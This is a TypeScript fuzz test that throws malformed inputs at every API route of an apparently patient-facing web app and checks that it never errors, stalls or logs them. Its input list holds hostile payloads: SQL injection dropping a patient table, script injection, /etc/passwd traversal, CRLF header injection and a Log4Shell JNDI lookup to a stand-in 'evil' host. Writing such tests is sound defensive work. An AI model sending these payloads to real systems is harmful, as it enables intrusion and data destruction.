import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { calls } from '#app/http/calls';
import { jsonSchemaOf } from '#app/http/openapi.server';
import { newId } from '#platform/ids';
import { signedInPatient } from '../../modules/identity/testing';
import { startTestServer, type TestServer } from '../kit/http';

let server: TestServer;
let cookie: string;
beforeAll(async () => {
  server = await startTestServer({ rates: { window: 60_000 as never, general: 1e9, auth: 1e9 } });
  const { token } = await signedInPatient(server.ctx());
  cookie = `patient=${token}`;
});
afterAll(() => server?.close());

const nasty = [
  '',
  ' ',
  '\u0000',
  '\r\nSet-Cookie: x=1',
  "' or 1=1 --",
  '"; drop table identity.patient; --',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '..%2f..%2f',
  '${7*7}',
  '{{7*7}}',
  '*)(uid=*',
  '${jndi:ldap://evil/x}',
  '%s%n',
  '\ud800',
  '\u202e',
  '＋１２１２',
  '+1212;ext=5',
  '+12125550123\r\n',
  'NaN',
  '1e400',
  '-1',
  '2147483648',
  '9223372036854775808',
  'null',
  'true',
  '[]',
  '__proto__',
  'constructor',
  'a'.repeat(5_000),
  '😀'.repeat(500),
  newId(),
  '00000000-0000-0000-0000-000000000000',
  '2026-02-30',
  'https://evil.example',
];
const word = fc.oneof(fc.constantFrom(...nasty), fc.string({ unit: 'binary', maxLength: 50 }));
const anyJson = fc.oneof(
  word,
  fc.double(),
  fc.constantFrom(0, -1, 2 ** 31, 2 ** 53, null, true, false),
  fc.jsonValue({ maxDepth: 3 }),
);

interface Schema {
  type?: string;
  enum?: unknown[];
  anyOf?: Schema[];
  oneOf?: Schema[];
  items?: Schema;
  properties?: Record<string, Schema>;
}

/** A value near a schema: its members, some missing, some wrong, some that it does not know. */
function near(schema: Schema | undefined): fc.Arbitrary<unknown> {
  if (schema?.enum)
    return fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...schema.enum) }, anyJson);
  const options = schema?.anyOf ?? schema?.oneOf;
  if (options) return fc.oneof(...options.map(near));
  if (schema?.type === 'array')
    return fc.oneof(
      { weight: 3, arbitrary: fc.array(near(schema.items), { maxLength: 4 }) },
      anyJson,
    );
  if (schema?.properties) {
    const members = Object.fromEntries(
      Object.entries(schema.properties).map(([key, each]) => [key, near(each)]),
    );
    const extra = fc.dictionary(
      fc.constantFrom('admin', 'status', 'id', 'role', 'constructor'),
      anyJson,
      { maxKeys: 1 },
    );
    return fc.oneof(
      {
        weight: 5,
        arbitrary: fc
          .tuple(fc.record(members, { requiredKeys: [] }), extra)
          .map(([a, b]) => ({ ...a, ...b })),
      },
      anyJson,
    );
  }
  return anyJson;
}

const runs = Number(process.env.FUZZ_RUNS ?? 40);

describe('every call, fed with anything', () => {
  it.each(calls.filter(({ id }) => id !== 'live.events').map((call) => [call.id, call] as const))(
    '%s never fails on its own account',
    async (_id, call) => {
      const body =
        call.body && !call.multipart
          ? near(jsonSchemaOf(call.body, 'input'))
          : fc.constant(undefined);
      const query = fc.dictionary(
        fc.oneof(fc.constantFrom('cursor', 'size', 'draft', 'q', '__proto__'), word),
        word,
        { maxKeys: 2 },
      );
      await fc.assert(
        fc.asyncProperty(
          body,
          query,
          fc.array(word, { minLength: 3, maxLength: 3 }),
          async (value, search, params) => {
            const path = call.path.replace(/\{\w+\}/g, () => encodeSafely(params.pop()!));
            const started = performance.now();
            const answer = await server.request(`/api${path}?${new URLSearchParams(search)}`, {
              method: call.method,
              headers: {
                Cookie: cookie,
                ...(value === undefined ? {} : { 'Content-Type': 'application/json' }),
              },
              body: value === undefined ? undefined : JSON.stringify(value),
            });
            const text = await answer.text();
            expect(answer.status, text.slice(0, 200)).toBeLessThan(500);
            expect(performance.now() - started).toBeLessThan(2_000);
            expect([...answer.headers.keys()]).not.toContain('x');
            if (answer.status >= 400)
              expect(JSON.parse(text)).toMatchObject({ success: false, code: expect.any(String) });
          },
        ),
        { numRuns: runs },
      );
    },
    60_000,
  );

  it('fills no log with what it was fed', () => {
    const log = JSON.stringify(server.logged);
    for (const text of nasty.filter(
      (each) => each.length > 7 && each.length < 100 && !/^[\da-f-]+$/.test(each),
    ))
      expect(log).not.toContain(JSON.stringify(text).slice(1, -1));
    expect(server.logged.filter(({ level }) => (level as number) >= 50)).toEqual([]);
  });
});

/** `encodeURIComponent` throws for half a surrogate pair, which no client can put into a path. */
const encodeSafely = (text: string): string =>
  encodeURIComponent(Buffer.from(text).toString()) || '%20';
